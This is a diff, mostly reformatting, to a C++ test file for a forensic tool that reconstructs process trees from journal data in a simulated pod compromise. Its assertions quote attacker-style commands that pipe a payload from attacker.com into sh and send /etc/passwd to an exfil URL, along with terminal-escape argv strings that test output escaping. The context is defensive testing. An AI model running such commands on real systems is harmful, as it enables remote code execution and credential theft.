@@ -138,7 +138,8 @@ TEST_CASE("incident in a pod: tree from the pod's topmost process, parent outsid
     CHECK(text.err == "");
     CHECK(golden_mismatch("incident_pod.txt", text.out) == "");
     // The story, independent of the golden.
-    CHECK(text.out.find("pod production/my-app-6d4f9-xk2p1 (uid " + kIncidentPodUid + ", container 4f1a2b3c4d5e)\n") == 0);
+    CHECK(text.out.find("pod production/my-app-6d4f9-xk2p1 (uid " + kIncidentPodUid + ", container 4f1a2b3c4d5e)\n") ==
+          0);
     CHECK(text.out.find("parent outside the pod: containerd-shim (PID 18150)\n") != std::string::npos);
     CHECK(text.out.find("sh -c \"curl http://attacker.com/payload.sh | sh\"") != std::string::npos);
     CHECK(text.out.find("curl http://attacker.com/exfil -d @/etc/passwd") != std::string::npos);
@@ -166,8 +167,8 @@ TEST_CASE("incident in a pod: tree from the pod's topmost process, parent outsid
     }
 
     SECTION("colour: NO_COLOR unset and stdout a pipe (auto) gives the plain golden; always paints") {
-        RunResult automatic = c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName},
-                                    EnvEdits{{"NO_COLOR", std::nullopt}});
+        RunResult automatic =
+            c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName}, EnvEdits{{"NO_COLOR", std::nullopt}});
         CHECK(automatic.status == 0);
         CHECK(automatic.out == text.out);
         RunResult always = c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName, "--color", "always"},
@@ -547,8 +548,8 @@ TEST_CASE("two journals from different boots reusing PIDs are never joined", "[r
     a.write(dir / "node-a.db");
     b.write(dir / "node-b.db");
     auto run = [&](std::vector<std::string> extra) {
-        return run_lineage(reconstruct_args({"node-a.db", "node-b.db"}, "2026-04-22T09:00:00Z",
-                                            "2026-04-22T09:10:00Z", std::move(extra)),
+        return run_lineage(reconstruct_args({"node-a.db", "node-b.db"}, "2026-04-22T09:00:00Z", "2026-04-22T09:10:00Z",
+                                            std::move(extra)),
                            dir.path());
     };
 
@@ -599,9 +600,9 @@ TEST_CASE("one boot in two journals: a copy, and a recorder restart", "[reconstr
         TempDir dir;
         incident_fixture().write(dir / "incident.db");
         std::filesystem::copy_file(dir / "incident.db", dir / "incident-copy.db");
-        RunResult one = run_lineage(
-            reconstruct_args({"incident.db"}, kIncidentSince, kIncidentUntil, with({"--pod", kIncidentPodName}, kNoColor)),
-            dir.path());
+        RunResult one = run_lineage(reconstruct_args({"incident.db"}, kIncidentSince, kIncidentUntil,
+                                                     with({"--pod", kIncidentPodName}, kNoColor)),
+                                    dir.path());
         RunResult two = run_lineage(reconstruct_args({"incident.db", "incident-copy.db"}, kIncidentSince,
                                                      kIncidentUntil, with({"--pod", kIncidentPodName}, kNoColor)),
                                     dir.path());
@@ -614,8 +615,8 @@ TEST_CASE("one boot in two journals: a copy, and a recorder restart", "[reconstr
         CHECK(two.out == one.out);
         CHECK(two.out.find("sh payload.sh → sh payload.sh") == std::string::npos);
 
-        RunResult js = run_lineage(reconstruct_args({"incident.db", "incident-copy.db"}, kIncidentSince,
-                                                    kIncidentUntil, {"--pod", kIncidentPodName, "--format", "json"}),
+        RunResult js = run_lineage(reconstruct_args({"incident.db", "incident-copy.db"}, kIncidentSince, kIncidentUntil,
+                                                    {"--pod", kIncidentPodName, "--format", "json"}),
                                    dir.path());
         json doc = json::parse(js.out);
         CHECK(doc.at("matched") == 5);
@@ -682,8 +683,8 @@ TEST_CASE("one boot in two journals: a copy, and a recorder restart", "[reconstr
 
 namespace {
 
-const std::vector<std::string> kHostileArgs{"printf", "\x1b]0;pwned\x07", "\x1b[2J", "two\nlines", "\xff\xfe",
-                                             "tab\there"};
+const std::vector<std::string> kHostileArgs{"printf",     "\x1b]0;pwned\x07", "\x1b[2J",
+                                            "two\nlines", "\xff\xfe",         "tab\there"};
 const std::string kBigArg = "\x1b]0;pwned\x07" + std::string(100 * 1024, 'A') + "\xff";
 
 FixtureJournal hostile_fixture() {
@@ -728,7 +729,7 @@ TEST_CASE("hostile argv: escaped in text, valid UTF-8 in JSON, raw bytes kept", 
     CHECK(all.out.find("two\\nlines") != std::string::npos);
     CHECK(all.out.find("\\xff\\xfe") != std::string::npos);
     CHECK(all.out.find("[\\x1b[31mevil\\x7f]") != std::string::npos);  // the child's comm
-    CHECK(all.out.find("[/tmp/.x\\n/curl] ") != std::string::npos);     // the real binary beside argv[0]
+    CHECK(all.out.find("[/tmp/.x\\n/curl] ") != std::string::npos);    // the real binary beside argv[0]
     // The 100 KB argument is cut for display: no line anywhere near it.
     size_t longest = 0;
     for (size_t pos = 0, nl; pos < all.out.size(); pos = nl + 1) {
@@ -747,7 +748,7 @@ TEST_CASE("hostile argv: escaped in text, valid UTF-8 in JSON, raw bytes kept", 
         auto p = node_with_pid(all_nodes(doc), 9001);
         REQUIRE(p);
         const json& exec = p->at("execs")[0];
-        CHECK(exec.at("args")[1] == "\x1b]0;pwned\x07");  // valid UTF-8 passes unchanged, JSON-escaped
+        CHECK(exec.at("args")[1] == "\x1b]0;pwned\x07");          // valid UTF-8 passes unchanged, JSON-escaped
         CHECK(exec.at("args")[4] == "\xef\xbf\xbd\xef\xbf\xbd");  // U+FFFD twice
         REQUIRE(exec.contains("raw_b64"));
         CHECK(base64_decode(exec.at("raw_b64").at("binary")) == "/usr/bin/printf");
@@ -811,8 +812,9 @@ FixtureJournal hostile_comm_fixture() {
 
 TEST_CASE("hostile comm in a warning: escaped once in text and on stderr, valid UTF-8 in JSON", "[reconstruct]") {
     Case c(hostile_comm_fixture(), "hostile_comm.db");
-    const std::string ghost_warning = "parent of a\\\\b\\x1b[1m\\xff (PID 7700) is unknown: it started before the "
-                                      "journal and is not in the /proc snapshot";
+    const std::string ghost_warning =
+        "parent of a\\\\b\\x1b[1m\\xff (PID 7700) is unknown: it started before the "
+        "journal and is not in the /proc snapshot";
     const std::string job_warning =
         "parent of true (PID 7800) is p\\\\q\\x1b]0;x\\x07\\xfe (PID 7750), which is not in the journal";
     // What escaping twice would print: an escaped backslash before an escape.
@@ -886,8 +888,8 @@ TEST_CASE("exit status: 0 matched, 1 nothing matched, 2 error", "[reconstruct]")
     CHECK(reversed.status == 2);
     CHECK(reversed.err.find("is after --until") != std::string::npos);
 
-    RunResult missing = run_lineage(reconstruct_args({"nope.db"}, kIncidentSince, kIncidentUntil, kNoColor),
-                                    c.dir.path());
+    RunResult missing =
+        run_lineage(reconstruct_args({"nope.db"}, kIncidentSince, kIncidentUntil, kNoColor), c.dir.path());
     CHECK(missing.status == 2);
     CHECK(missing.err.find("nope.db: cannot open") != std::string::npos);
 }
@@ -957,8 +959,7 @@ TEST_CASE("build_report: --descendants-of and --ancestors-of", "[reconstruct]") 
         lineage::Query q = window_query();
         q.descendants_of = 18150;
         auto report = lineage::build_report(model, q);
-        CHECK(matched_pids(report) ==
-              std::set<uint32_t>{18150, 18201, 18293, 18294, 18295, 18296, 20001, 20002});
+        CHECK(matched_pids(report) == std::set<uint32_t>{18150, 18201, 18293, 18294, 18295, 18296, 20001, 20002});
     }
     SECTION("ancestors of curl: one chain up to PID 1, past the pod boundary") {
         lineage::Query q = window_query();
@@ -1009,7 +1010,7 @@ TEST_CASE("build_report: --binary glob", "[reconstruct]") {
     CHECK(pids_for("/usr/local/bin/*") == std::set<uint32_t>{18201, 20002});
     CHECK(pids_for("/usr/*/curl") == std::set<uint32_t>{18296});
     CHECK(pids_for("sh") == std::set<uint32_t>{18293, 18294});
-    CHECK(pids_for("containerd-shim*") == std::set<uint32_t>{18150});     // the snapshot's exe counts
+    CHECK(pids_for("containerd-shim*") == std::set<uint32_t>{18150});  // the snapshot's exe counts
     CHECK(pids_for("nosuch").empty());
 }
 
